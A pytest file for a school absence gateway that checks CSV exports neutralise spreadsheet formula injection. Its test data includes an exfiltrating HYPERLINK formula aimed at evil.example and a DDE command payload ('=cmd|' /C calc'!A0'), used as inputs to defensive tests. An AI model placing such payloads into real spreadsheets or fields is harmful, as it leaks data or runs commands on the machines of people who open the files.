"""No CSV the gateway writes can carry a live spreadsheet formula (OWASP's CSV injection rule): a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading single quote."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy.orm import Session

from gateway.cli.main import cli
from gateway.csv_safety import FORMULA_STARTS, neutralise_cell
from gateway.devtools.synthetic_school import generate_school
from gateway.pipeline.replies import process_inbound_message, record_inbound
from tests.pipeline.conftest import DAY, MUM_MOBILE, Pipeline, add_family

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
GATEWAY = Path(__file__).resolve().parents[2] / "gateway"


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV document that a spreadsheet would read as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_formula_cells_neutralised_by_the_helper(start: str) -> None:
    assert neutralise_cell(start + "1+2") == "'" + start + "1+2"
    assert neutralise_cell("Amira is ill " + start) == "Amira is ill " + start  # only the first character
    assert neutralise_cell(None) == ""
    assert neutralise_cell(-3) == "'-3"


def test_csv_formula_cells_neutralised(session: Session, pipeline: Pipeline) -> None:
    """``gateway export reasons``: a parent's reply is written as text, never as a formula."""
    add_family(session)
    CliRunner().invoke(cli, ["absences", "start", "--date", DAY.isoformat()])
    pipeline.drain()
    inbound_id, _ = record_inbound(session, provider_sid="SM-evil", from_number=MUM_MOBILE, to_number=None,
                                   body=ATTACK)
    session.commit()
    process_inbound_message(inbound_id)
    result = CliRunner().invoke(cli, ["export", "reasons", "--date", DAY.isoformat()])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows, "the reply must be exported"
    assert {row["reason_text"] for row in rows} == {"'" + ATTACK}
    assert formula_cells(result.stdout) == []


def test_csv_formula_cells_neutralised_in_synthetic_school_files(tmp_path: Path) -> None:
    """The generated contacts and register files (the demo imports them; people open them too)."""
    school = generate_school(3, seed=7)
    first = school.pupils[0]
    school.pupils[0] = replace(first, forename="=cmd|' /C calc'!A0", surname="@SUM(1+1)", upn="-A1")
    contacts = school.write_contacts_csv(tmp_path / "contacts.csv").read_text()
    register = school.write_absences_csv(tmp_path / "absences.csv", date(2026, 11, 23)).read_text()
    for text in (contacts, register):
        assert formula_cells(text) == []
    assert "'=cmd|' /C calc'!A0" in contacts and "'@SUM(1+1)" in contacts and "'-A1" in register


def test_no_csv_writer_bypasses_the_neutraliser() -> None:
    """Every CSV writer in the gateway goes through ``gateway.csv_safety`` (one rule, one place)."""
    offenders = [str(path.relative_to(GATEWAY)) for path in GATEWAY.rglob("*.py")
                 if path.name != "csv_safety.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert offenders == []
